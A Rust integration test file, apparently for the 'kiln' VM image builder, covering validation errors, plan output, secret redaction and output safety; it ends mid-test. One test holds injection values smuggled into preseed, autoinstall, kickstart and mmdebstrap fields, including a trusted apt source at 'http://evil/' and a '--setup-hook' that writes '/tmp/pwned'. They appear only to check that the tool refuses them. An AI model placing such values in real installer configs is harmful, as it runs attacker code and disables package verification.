//! The commands that never touch libvirt: exit codes, messages, outputs a user sees.

use std::path::Path;
use std::process::{Command, Output};

mod harness;
use harness::*;

#[test]
fn validate_accepts_the_examples() {
    let out = kiln_in(
        &[
            "validate",
            "examples/debian-12.yaml",
            "examples/ubuntu-18.04.yaml",
            "examples/debian-12-netinst.yaml",
            "examples/rocky-9-kickstart.yaml",
            "examples/ubuntu-24.04-autoinstall.yaml",
        ],
        root(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let t = text(&out.stdout);
    assert!(t.contains("ok: examples/debian-12.yaml (debian-12-1.0"));
    assert_eq!(
        t.lines().filter(|l| l.starts_with("ok: ")).count(),
        5,
        "{t}"
    );
}

#[test]
fn invalid_recipes_exit_2_with_every_error_positioned() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.yaml");
    std::fs::write(
        &bad,
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\nvm:\n  vcpu: 2\noutputs: [vmdk, qcow]\n",
    )
    .unwrap();
    for cmd in ["validate", "plan", "build"] {
        let out = kiln_in(&[cmd, bad.to_str().unwrap()], dir.path());
        assert_eq!(out.status.code(), Some(2), "{cmd}: {}", text(&out.stderr));
        let err = text(&out.stderr);
        assert!(
            err.contains("bad.yaml:5:3: unknown key `vcpu` (did you mean `vcpus`?)"),
            "{cmd}: {err}"
        );
        assert!(
            err.contains("bad.yaml:6:17: expected one of"),
            "{cmd}: {err}"
        );
        assert!(err.contains("2 errors found"), "{cmd}: {err}");
    }
    assert!(
        !dir.path().join("kiln-output").exists(),
        "an invalid build writes nothing"
    );
}

#[test]
fn validation_reports_errors_of_every_kind_at_once() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("ud.hbs"),
        "#cloud-config\nhostname: {{vars.nope}}\n",
    )
    .unwrap();
    let r = dir.path().join("r.yaml");
    // An unknown key, a bad list item, a bad value type (schema); a bad name, a missing file,
    // an unknown element, an unknown --var (meaning); an undefined template variable.
    std::fs::write(
        &r,
        "name: \"bad name\"\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\n\
         elements: [debain]\nvm:\n  vcpu: 2\n  memory: [1]\noutputs: [vmdk, qcow]\n\
         provision:\n  - files:\n      - {path: /etc/x, source: missing.txt}\n\
         templates:\n  user_data: ud.hbs\n",
    )
    .unwrap();
    let out = kiln_in(
        &["validate", r.to_str().unwrap(), "--var", "nope=1"],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    for want in [
        "r.yaml:1:7: expected a name of letters",
        "r.yaml:4:12: element `debain` not found (did you mean `debian`?)",
        "r.yaml:6:3: unknown key `vcpu` (did you mean `vcpus`?)",
        "r.yaml:7:11: expected",
        "r.yaml:8:17: expected one of",
        "r.yaml:11:32: cannot read ",
        "--var:1:1: unknown variable `nope`",
    ] {
        assert!(err.contains(want), "missing {want:?} in:\n{err}");
    }
    assert!(err.contains("7 errors found"), "{err}");
    // Once the recipe is right but for its template, the template's error is reported.
    std::fs::write(
        &r,
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\nvm:\n  vcpu: 2\n\
         templates:\n  user_data: ud.hbs\n",
    )
    .unwrap();
    let out = kiln_in(&["validate", r.to_str().unwrap()], dir.path());
    let err = text(&out.stderr);
    assert!(err.contains("r.yaml:5:3: unknown key `vcpu`"), "{err}");
    assert!(err.contains("ud.hbs:2:"), "{err}");
    assert!(err.contains("2 errors found"), "{err}");
}

#[test]
fn undefined_template_variables_are_validation_errors() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("ud.hbs"),
        "#cloud-config\nhostname: {{vars.nope}}\n",
    )
    .unwrap();
    let r = dir.path().join("r.yaml");
    std::fs::write(
        &r,
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\ntemplates:\n  user_data: ud.hbs\n",
    )
    .unwrap();
    let out = kiln_in(&["validate", r.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(err.contains("ud.hbs:2:"), "{err}");
    assert!(err.contains("nope"), "{err}");
}

/// examples/debian-12.yaml (and its files) in `dir`, with `edit` applied to its text.
fn example_copy(dir: &Path, edit: impl Fn(String) -> String) -> std::path::PathBuf {
    let text = std::fs::read_to_string(root().join("examples/debian-12.yaml")).unwrap();
    std::fs::create_dir_all(dir.join("files")).unwrap();
    std::fs::copy(
        root().join("examples/files/hello.sh"),
        dir.join("files/hello.sh"),
    )
    .unwrap();
    let p = dir.join("debian-12.yaml");
    std::fs::write(&p, edit(text)).unwrap();
    p
}

#[test]
fn plan_renders_templates_and_shows_commands_without_libvirt() {
    let dir = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    // A libvirt URI that cannot work: plan must not try it.
    let recipe = example_copy(dir.path(), |t| {
        let t = t.replace(
            "  timeout: 40m\n",
            "  timeout: 40m\n  uri: qemu+ssh://kiln@unreachable.invalid/system\n",
        );
        assert!(t.contains("unreachable.invalid"));
        t
    });
    let plan = |dir: &Path| {
        let out = kiln_in(
            &[
                "plan",
                recipe.to_str().unwrap(),
                "--format",
                "json",
                "--render-dir",
                "rendered",
                "--cache-dir",
                cache.path().to_str().unwrap(),
            ],
            dir,
        );
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let v = plan(dir.path());
    assert_eq!(
        v["plan"]["vm"]["uri"],
        "qemu+ssh://kiln@unreachable.invalid/system"
    );
    let stages: Vec<&str> = v["stages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        stages,
        [
            "source",
            "provision",
            "cloud-init",
            "sysprep",
            "undefine",
            "test",
            "convert",
            "publish",
        ]
    );
    // An empty cache: the bootstrap runs, command by command.
    let source = &v["stages"][0]["commands"];
    let miss = source[0].as_str().unwrap();
    let cached = miss
        .strip_prefix("cache miss: ")
        .and_then(|m| m.strip_suffix(" is built"))
        .unwrap_or_else(|| panic!("{miss}"));
    assert!(
        cached.starts_with(cache.path().to_str().unwrap()),
        "{cached}"
    );
    assert!(source[1].as_str().unwrap().starts_with("mmdebstrap "));
    // With the base disk in the cache, the plan says so and runs nothing of the bootstrap.
    std::fs::create_dir_all(Path::new(cached).parent().unwrap()).unwrap();
    std::fs::write(cached, b"").unwrap();
    let hit = plan(dir.path());
    let source = hit["stages"][0]["commands"].as_array().unwrap();
    assert_eq!(source.len(), 1, "{source:?}");
    assert!(
        source[0]
            .as_str()
            .unwrap()
            .starts_with(&format!("cache hit: {cached}")),
        "{source:?}"
    );
    // The overlay is made over that very file.
    let overlay = hit["stages"][1]["commands"][0].as_str().unwrap();
    assert!(overlay.contains(&format!("-b {cached} ")), "{overlay}");
    let elements: Vec<&str> = v["plan"]["elements"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        elements,
        [
            "debian",
            "cloud-init",
            "growroot",
            "qemu-guest-agent",
            "sysprep-default"
        ]
    );
    let xml = std::fs::read_to_string(dir.path().join("rendered/domain.xml")).unwrap();
    assert!(xml.contains("<domain type='qemu'>"));
    let ud = std::fs::read_to_string(dir.path().join("rendered/user-data")).unwrap();
    assert!(ud.starts_with("#cloud-config"));
    let script = std::fs::read_to_string(dir.path().join("rendered/provision.sh")).unwrap();
    assert!(script.contains("pkg_install 'tree'"));
    let md = std::fs::read_to_string(dir.path().join("rendered/meta-data")).unwrap();
    assert!(md.contains("local-hostname: golden\n"), "{md}");
}

#[test]
fn var_overrides_reach_the_templates() {
    let dir = tempfile::tempdir().unwrap();
    let recipe = root().join("examples/debian-12.yaml");
    let out = kiln_in(
        &[
            "plan",
            recipe.to_str().unwrap(),
            "--var",
            "hostname=override",
            "--render-dir",
            "r",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let md = std::fs::read_to_string(dir.path().join("r/meta-data")).unwrap();
    assert!(md.contains("local-hostname: override\n"), "{md}");
}

#[test]
fn schema_is_json_schema() {
    let out = kiln_in(&["schema"], root());
    assert_eq!(out.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v["$schema"].as_str().unwrap().contains("json-schema.org"));
    assert_eq!(v["additionalProperties"], false);
}

#[test]
fn elements_list_and_show() {
    let out = kiln_in(&["elements", "list"], root());
    assert_eq!(out.status.code(), Some(0));
    let list = text(&out.stdout);
    for e in [
        "debian",
        "ubuntu",
        "cloud-init",
        "sysprep-default",
        "qemu-guest-agent",
        "growroot",
    ] {
        assert!(
            list.lines().any(|l| l.starts_with(e)),
            "{e} missing from:\n{list}"
        );
    }
    let out = kiln_in(&["elements", "show", "growroot"], root());
    assert_eq!(out.status.code(), Some(0));
    assert!(text(&out.stdout).contains("depends: [cloud-init]"));
    let out = kiln_in(&["elements", "show", "nope"], root());
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn bad_flags_exit_2() {
    let out = kiln_in(&["build", "x.yaml", "--on-error", "explode"], root());
    assert_eq!(out.status.code(), Some(2));
    let out = kiln_in(&["build", "x.yaml", "--var", "novalue"], root());
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn sysprep_lists_operations_like_virt_sysprep() {
    let out = kiln_in(&["sysprep", "--list-operations"], root());
    assert_eq!(out.status.code(), Some(0));
    let t = text(&out.stdout);
    // virt-sysprep 1.48's 43 operations plus kiln's cloud-init-state.
    assert_eq!(t.lines().count(), 44, "{t}");
    assert!(t.lines().any(|l| l.starts_with("machine-id * ")));
    assert!(t.lines().any(|l| l.starts_with("cloud-init-state * ")));
    assert!(t.lines().any(|l| l.starts_with("user-account   ")));
    assert!(t.lines().any(|l| l.starts_with("customize * ")));
}

#[test]
fn bad_customize_steps_in_recipes_are_positioned_errors() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("c.yaml");
    std::fs::write(
        &bad,
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\ncustomize:\n  - write: /etc/motd\n  - chmod: \"9:/x\"\n  - upload: \"nothere.txt:/root\"\n",
    )
    .unwrap();
    let out = kiln_in(&["validate", bad.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    for needle in [
        "c.yaml:5:12: expected FILE:CONTENT",
        "c.yaml:6:12: expected octal permissions",
        "c.yaml:7:13:",
        "nothere.txt is not a file",
        "3 errors found",
    ] {
        assert!(err.contains(needle), "{needle} missing from:\n{err}");
    }
    // A misspelt step name is a schema error with a suggestion.
    std::fs::write(
        &bad,
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\ncustomize:\n  - root-pasword: random\n",
    )
    .unwrap();
    let out = kiln_in(&["validate", bad.to_str().unwrap()], dir.path());
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr)
            .contains("c.yaml:5:5: unknown key `root-pasword` (did you mean `root-password`?)"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn plan_shows_customize_steps_without_secrets() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path().join("p.yaml");
    std::fs::write(
        &r,
        "name: t\nsource:\n  bootstrap: {distro: debian, suite: bookworm, packages: [cloud-init]}\ncustomize:\n  - root-password: \"password:hunter2\"\n  - hostname: web1\n",
    )
    .unwrap();
    for fmt in ["text", "json"] {
        let out = kiln_in(&["plan", r.to_str().unwrap(), "--format", fmt], dir.path());
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let t = text(&out.stdout);
        assert!(t.contains("password of root: set"), "{t}");
        assert!(t.contains("hostname web1"), "{t}");
        assert!(!t.contains("hunter2"), "secret in plan output: {t}");
    }
}

#[test]
fn sysprep_rejects_bad_input_with_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    for (args, needle) in [
        (vec!["sysprep", "-a", "missing.qcow2"], "does not exist"),
        (
            vec![
                "sysprep",
                "-a",
                "x.qcow2",
                "--operations",
                "defaults,-logfile",
            ],
            "did you mean `logfiles`",
        ),
        (
            vec!["sysprep", "-a", "x.qcow2", "--write", "relative:x"],
            "--write: expected an absolute path",
        ),
        (
            vec!["sysprep", "-a", "x.qcow2", "--root-password", "hunter2"],
            "password selector",
        ),
        (
            vec![
                "sysprep",
                "-a",
                "x.qcow2",
                "--enable",
                "tmp-files",
                "--keep-user-accounts",
                "bob",
            ],
            "`user-account` operation is not enabled",
        ),
        (vec!["sysprep"], "required"),
    ] {
        let out = kiln_in(&args, dir.path());
        assert_eq!(
            out.status.code(),
            Some(2),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(
            text(&out.stderr).contains(needle),
            "{args:?}: {}",
            text(&out.stderr)
        );
    }
}

/// `kiln ARGS | head -0`: the reader is gone before kiln writes its first line.
fn with_stdout_closed(args: &[&str], cwd: &Path) -> Output {
    use std::process::Stdio;
    let mut child = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args(args)
        .current_dir(cwd)
        .env_remove("KILN_ELEMENTS_PATH")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run kiln");
    drop(child.stdout.take());
    child.wait_with_output().expect("wait for kiln")
}

#[test]
fn every_printing_command_can_be_piped_into_head() {
    let dir = tempfile::tempdir().unwrap();
    let raw = dir.path().join("tiny.raw");
    std::fs::write(&raw, vec![0u8; 1 << 20]).unwrap();
    let recipe = root().join("examples/debian-12.yaml");
    let recipe = recipe.to_str().unwrap();
    let render = dir.path().join("r");
    let render = render.to_str().unwrap();
    for args in [
        vec!["schema"],
        vec!["--help"],
        vec!["image", "--help"],
        vec!["elements", "list"],
        vec!["elements", "show", "debian"],
        vec!["sysprep", "--list-operations"],
        vec!["validate", recipe],
        vec!["plan", recipe, "--render-dir", render],
        vec!["plan", recipe, "--format", "json", "--render-dir", render],
        vec!["info", "tiny.raw"],
        vec!["info", "tiny.raw", "--format", "json"],
        vec!["convert", "tiny.raw", "-O", "qcow2", "--force"],
    ] {
        let out = with_stdout_closed(&args, dir.path());
        assert_eq!(
            out.status.code(),
            Some(0),
            "kiln {args:?} | head: {}",
            text(&out.stderr)
        );
        // Progress lines may go to stderr; a panic or an error message may not.
        let err = text(&out.stderr);
        assert!(
            !err.contains("panicked") && !err.to_lowercase().contains("error"),
            "kiln {args:?} | head: {err}"
        );
    }
}

#[test]
fn plan_says_what_build_will_skip_and_how_it_verifies() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("base.qcow2"), b"").unwrap();
    let r = dir.path().join("r.yaml");
    std::fs::write(&r, "name: t\nsource:\n  image: {path: base.qcow2}\n").unwrap();
    let out = kiln_in(&["plan", "r.yaml", "--render-dir", "p"], dir.path());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let t = text(&out.stdout);
    assert!(
        t.contains("no provisioning steps: the build VM is not booted"),
        "{t}"
    );
    assert!(t.contains("nothing: no domain was defined"), "{t}");
    assert!(!t.contains("check the provisioning status"), "{t}");
    // With a step, an image base is checked for cloud-init before it boots.
    std::fs::write(
        &r,
        "name: t\nsource:\n  image:\n    url: http://127.0.0.1:1/disk.img\n    checksum: file:http://127.0.0.1:1/SHA256SUMS\nprovision:\n  - run: [\"true\"]\n",
    )
    .unwrap();
    let out = kiln_in(&["plan", "r.yaml", "--render-dir", "p"], dir.path());
    let t = text(&out.stdout);
    assert!(
        t.contains("its checksum is looked up in http://127.0.0.1:1/SHA256SUMS"),
        "{t}"
    );
    assert!(!t.contains("()"), "{t}");
    assert!(
        t.contains("check for /usr/bin/cloud-init before booting"),
        "{t}"
    );
    assert!(t.contains("define domain.xml, start"), "{t}");
    // The autoinstall seed holds the meta-data the install stage writes beside the answers.
    let fixture = root().join("tests/fixtures/installer/autoinstall.yaml");
    let out = kiln_in(
        &["plan", fixture.to_str().unwrap(), "--render-dir", "ai"],
        dir.path(),
    );
    let t = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        t.contains("seed/user-data") && t.contains("seed/meta-data"),
        "{t}"
    );
}

/// Options of `kiln PATH --help` and of all its subcommands: (long names, short → long).
type Values = std::collections::BTreeMap<String, std::collections::BTreeSet<String>>;

/// Options of `kiln PATH --help` and of all its subcommands: (long names, short → long,
/// long → possible values).
fn help_options(
    path: &[String],
) -> (
    std::collections::BTreeSet<String>,
    std::collections::BTreeMap<String, String>,
    Values,
) {
    let mut args: Vec<&str> = path.iter().map(String::as_str).collect();
    args.push("--help");
    let out = kiln_in(&args, root());
    assert_eq!(out.status.code(), Some(0), "kiln {args:?}");
    let help = text(&out.stdout);
    let mut longs = std::collections::BTreeSet::new();
    let mut shorts = std::collections::BTreeMap::new();
    let mut values = Values::new();
    let mut current = String::new();
    let mut listing = false;
    let mut section = "";
    for line in help.lines() {
        if line.trim().is_empty() {
            continue;
        }
        if !line.starts_with(' ') {
            section = line;
            continue;
        }
        let t = line.trim_start();
        match section {
            s if s.starts_with("Commands:") => {
                let name = t.split_whitespace().next().unwrap_or("");
                if name != "help" && !name.is_empty() {
                    let mut sub = path.to_vec();
                    sub.push(name.to_string());
                    let (l, s, v) = help_options(&sub);
                    longs.extend(l);
                    shorts.extend(s);
                    for (k, v) in v {
                        values.entry(k).or_default().extend(v);
                    }
                }
            }
            // "Options:" and custom headings (sysprep's "Customize (…):").
            s if s.ends_with(':')
                && !["Arguments:", "Commands:"].contains(&s)
                && t.starts_with('-') =>
            {
                // "-o, --file <FILE>  text" or "--name <NAME>  text": the option column only.
                let col = t.split("  ").next().unwrap_or("");
                let long = col
                    .split([' ', ','])
                    .find(|w| w.starts_with("--"))
                    .map(str::to_string);
                if let Some(long) = long {
                    if let Some(s) = col.strip_prefix('-').filter(|s| !s.starts_with('-')) {
                        shorts.insert(format!("-{}", &s[..1]), long.clone());
                    }
                    current = long.clone();
                    longs.insert(long);
                }
                listing = false;
                if let Some(v) = t.split("[possible values: ").nth(1) {
                    let v = v.split(']').next().unwrap_or("");
                    values
                        .entry(current.clone())
                        .or_default()
                        .extend(v.split(", ").map(str::to_string));
                }
            }
            // Long help: "Possible values:" then "- name: text" lines.
            s if s.ends_with(':') && t == "Possible values:" => listing = true,
            s if s.ends_with(':') && listing && t.starts_with("- ") => {
                let v = t[2..].split([':', ' ']).next().unwrap_or("");
                values
                    .entry(current.clone())
                    .or_default()
                    .insert(v.to_string());
            }
            s if s.ends_with(':') && !t.starts_with('-') => {
                if let Some(v) = t.split("[possible values: ").nth(1) {
                    let v = v.split(']').next().unwrap_or("");
                    values
                        .entry(current.clone())
                        .or_default()
                        .extend(v.split(", ").map(str::to_string));
                }
            }
            _ => {}
        }
    }
    (longs, shorts, values)
}

/// The README's command synopsis, entry by entry: (command path, its text).
fn readme_synopsis() -> Vec<(Vec<String>, String)> {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let section = readme
        .split("## Commands and exit codes")
        .nth(1)
        .expect("README has a commands section");
    let block = section.split("```").nth(1).expect("a code block");
    let mut entries: Vec<String> = Vec::new();
    for line in block.lines() {
        if line.starts_with("kiln ") {
            entries.push(line.to_string());
        } else if line.starts_with(' ') {
            if let Some(last) = entries.last_mut() {
                last.push(' ');
                last.push_str(line.trim());
            }
        }
    }
    let mut out = Vec::new();
    for e in entries {
        // The command words, outside [...]: `image [--os-cloud C] accept|reject IMAGE`.
        let mut plain = String::new();
        let mut depth = 0;
        for c in e.chars() {
            match c {
                '[' => depth += 1,
                ']' => depth -= 1,
                c if depth == 0 => plain.push(c),
                _ => {}
            }
        }
        let mut path: Vec<String> = Vec::new();
        let mut alternatives = Vec::new();
        for w in plain.split_whitespace().skip(1) {
            if w.starts_with('-')
                || !w
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c == '-' || c == '|')
            {
                break;
            }
            if w.contains('|') {
                // `accept|reject` names two commands; `tag add|remove` subcommands of one.
                if path.len() <= 1 && path.first().is_none_or(|p| p == "image") {
                    alternatives = w.split('|').map(str::to_string).collect();
                }
                break;
            }
            path.push(w.to_string());
        }
        if alternatives.is_empty() {
            out.push((path, e.clone()));
        } else {
            for a in alternatives {
                let mut p = path.clone();
                p.push(a);
                out.push((p, e.clone()));
            }
        }
    }
    out
}

#[test]
fn readme_synopsis_and_help_name_the_same_options() {
    let global = ["--help", "--verbose", "--log-format", "--version"];
    let synopsis = readme_synopsis();
    let mut keys: Vec<Vec<String>> = synopsis.iter().map(|(p, _)| p.clone()).collect();
    keys.dedup();
    // Every command of `kiln --help` has an entry.
    let top = text(&kiln_in(&["--help"], root()).stdout);
    for line in top.split("Commands:").nth(1).unwrap().lines() {
        let Some(cmd) = line.split_whitespace().next() else {
            continue;
        };
        if line.starts_with("  ") && cmd != "help" && !line.trim().is_empty() {
            assert!(
                keys.iter()
                    .any(|k| k.first().map(String::as_str) == Some(cmd)),
                "README's synopsis lacks `kiln {cmd}`"
            );
        }
        if !line.starts_with(' ') {
            break;
        }
    }
    let mut problems = Vec::new();
    for key in keys {
        let (longs, shorts, values) = help_options(&key);
        let text: String = synopsis
            .iter()
            .filter(|(p, _)| *p == key)
            .map(|(_, t)| t.as_str())
            .collect::<Vec<_>>()
            .join(" ");
        let mut named = std::collections::BTreeSet::new();
        for w in text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-')) {
            if w.starts_with("--") && w.len() > 2 {
                named.insert(w.to_string());
            } else if w.len() == 2 && w.starts_with('-') {
                match shorts.get(w) {
                    Some(l) => {
                        named.insert(l.clone());
                    }
                    None => problems.push(format!(
                        "kiln {}: README's {w} is not an option",
                        key.join(" ")
                    )),
                }
            }
        }
        for l in &longs {
            if !global.contains(&l.as_str()) && !named.contains(l) {
                problems.push(format!(
                    "kiln {}: {l} is missing from the README",
                    key.join(" ")
                ));
            }
        }
        // `--opt a|b|c` in the README lists exactly the values --help offers.
        let words: Vec<&str> = text.split([' ', '[', ']']).collect();
        for pair in words.windows(2) {
            let opt = shorts.get(pair[0]).cloned().unwrap_or(pair[0].to_string());
            if !opt.starts_with("--") || !pair[1].contains('|') {
                continue;
            }
            let Some(offered) = values.get(&opt) else {
                continue;
            };
            let listed: std::collections::BTreeSet<String> =
                pair[1].split('|').map(str::to_string).collect();
            if &listed != offered {
                problems.push(format!(
                    "kiln {}: README's {opt} {} but --help offers {offered:?}",
                    key.join(" "),
                    pair[1]
                ));
            }
        }
        for n in &named {
            if !longs.contains(n) {
                problems.push(format!(
                    "kiln {}: README's {n} is not in --help",
                    key.join(" ")
                ));
            }
        }
    }
    assert!(
        problems.is_empty(),
        "README and --help disagree:\n{}",
        problems.join("\n")
    );
}

#[test]
fn every_environment_variable_kiln_reads_is_documented() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let mut missing = Vec::new();
    for e in walk(&root().join("src")) {
        let src = std::fs::read_to_string(&e).unwrap();
        for part in src
            .split("env::var(\"")
            .skip(1)
            .chain(src.split("env::var_os(\"").skip(1))
        {
            let name = part.split('"').next().unwrap();
            if !readme.contains(&format!("`{name}`")) {
                missing.push(format!("{name} ({})", e.display()));
            }
        }
    }
    assert!(missing.is_empty(), "not in the README: {missing:?}");
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else if p.extension().is_some_and(|x| x == "rs") {
            out.push(p);
        }
    }
    out
}

#[test]
fn a_build_that_asks_for_glance_fails_at_once_without_credentials() {
    let dir = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let recipe = example_copy(dir.path(), |t| {
        let (head, _) = t.split_once("\npublish:\n").unwrap();
        format!("{head}\npublish:\n  glance:\n    name: \"{{{{name}}}}-{{{{version}}}}\"\n")
    });
    let out = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args(["build", recipe.to_str().unwrap(), "-o", "out"])
        .current_dir(dir.path())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap())
        .env("HOME", home.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(err.contains("publish.glance: cloud configuration"), "{err}");
    assert!(err.contains("--no-glance"), "{err}");
    assert!(!dir.path().join("out").exists(), "nothing may start");
}

/// The injections a review reproduced (issue 12): each is refused before anything is
/// rendered, with its position, and the file is never written.
#[test]
fn values_that_would_break_out_of_their_file_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let fixtures = root().join("tests/fixtures/installer");
    for f in ["vmlinuz", "initrd.gz"] {
        std::fs::copy(fixtures.join(f), dir.path().join(f)).unwrap();
    }
    let n = std::cell::Cell::new(0);
    let fixture = |kind: &str, edit: &dyn Fn(String) -> String| {
        let text = std::fs::read_to_string(fixtures.join(format!("{kind}.yaml"))).unwrap();
        let edited = edit(text.clone());
        assert_ne!(edited, text, "{kind}: the edit changed nothing");
        n.set(n.get() + 1);
        let p = dir.path().join(format!("{kind}-bad{}.yaml", n.get()));
        std::fs::write(&p, edited).unwrap();
        p
    };
    let bootstrap = |name: &str, extra: &str| {
        let p = dir.path().join(format!("{name}.yaml"));
        std::fs::write(
            &p,
            format!("name: t\nelements: [cloud-init]\nsource:\n  bootstrap: {{distro: debian, {extra}}}\n"),
        )
        .unwrap();
        p
    };
    let cases: Vec<(std::path::PathBuf, Vec<&str>, &str)> = vec![
        (
            fixture("preseed", &|t| {
                t.replace(
                    "full_name: Alice Example",
                    "full_name: \"Alice\\nd-i preseed/late_command string in-target sh -c id\"",
                )
            }),
            vec![],
            "preseed-bad1.yaml:13:",
        ),
        (
            fixture("kickstart", &|t| t.replace("# Fixture", "# Through --var: fixture")),
            vec!["--var", "hostname=rocky --bootproto=static --ip=10.9.9.9"],
            "--var:1:1: hostname: `rocky --bootproto=static",
        ),
        (
            fixture("autoinstall", &|t| {
                t.replace("hostname: snaphost", "hostname: \"snaphost\\nruncmd: [id]\"")
            }),
            vec![],
            "autoinstall-bad3.yaml:4:",
        ),
        (
            bootstrap(
                "datasource",
                "suite: bookworm, packages: []}\ncloud_init: {datasources: [\"None\\nssh_pwauth: true\"]",
            ),
            vec![],
            "datasource.yaml:5:",
        ),
        (
            bootstrap("suite", "suite: \"--setup-hook=id>/tmp/pwned\""),
            vec![],
            "suite.yaml:4:",
        ),
        (
            bootstrap(
                "mirror",
                "suite: bookworm, mirror: \"http://deb.debian.org/debian\\ndeb [trusted=yes] http://evil/ x main\"",
            ),
            vec![],
            "mirror.yaml:4:",
        ),
        (
            fixture("kickstart", &|t| {
                t.replace("packages: [cloud-init", "packages: [\"--nogpgcheck\", cloud-init")
            }),
            vec![],
            "kickstart-bad4.yaml:18:",
        ),
        (
            fixture("preseed", &|t| {
                t.replace("full_name: Alice Example", "full_name: \"Alice\\\\\"")
            }),
            vec![],
            "preseed-bad5.yaml:13:",
        ),
    ];
    for (recipe, extra, want) in cases {
        let mut args = vec!["plan", recipe.to_str().unwrap(), "--render-dir", "rendered"];
        args.extend(extra);
        let out = kiln_in(&args, dir.path());
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{}: {err}", recipe.display());
        assert!(
            err.contains(want),
            "{}: want {want:?} in:\n{err}",
            recipe.display()
        );
        assert!(
            !dir.path().join("rendered").exists(),
            "rendered despite the error"
        );
    }
}

/// Kiln replaces only its own outputs (issue 12): `name: x86_64`, `version: linux-gnu` into
/// /usr/lib would have replaced /usr/lib/x86_64-linux-gnu.
#[test]
fn a_build_never_replaces_a_directory_kiln_did_not_make() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("lib");
    let theirs = out.join("x86_64-linux-gnu");
    std::fs::create_dir_all(&theirs).unwrap();
    std::fs::write(theirs.join("libc.so.6"), "precious").unwrap();
    std::fs::write(
        dir.path().join("r.yaml"),
        "name: x86_64\nversion: linux-gnu\nelements: [cloud-init]\nsource:\n  bootstrap: {distro: debian, suite: bookworm}\n",
    )
    .unwrap();
    let o = kiln_in(&["build", "r.yaml", "-o", "lib"], dir.path());
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains("is not a kiln build of x86_64 linux-gnu"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(theirs.join("libc.so.6")).unwrap(),
        "precious"
    );
    let left: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["x86_64-linux-gnu"], "nothing was started");
}

#[test]
fn a_second_build_of_the_same_output_fails_at_once() {
    use std::os::unix::io::AsRawFd;
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("out")).unwrap();
    std::fs::write(
        dir.path().join("r.yaml"),
        "name: t\nversion: \"1\"\nelements: [cloud-init]\nsource:\n  bootstrap: {distro: debian, suite: bookworm}\n",
    )
    .unwrap();
    // The first build's lock, held here.
    let lock = std::fs::File::create(dir.path().join("out/.t-1.lock")).unwrap();
    assert_eq!(
        unsafe { libc::flock(lock.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) },
        0
    );
    let o = kiln_in(
        &["build", "r.yaml", "-o", "out", "--cache-dir", "cache"],
        dir.path(),
    );
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("another kiln build of t-1"), "{err}");
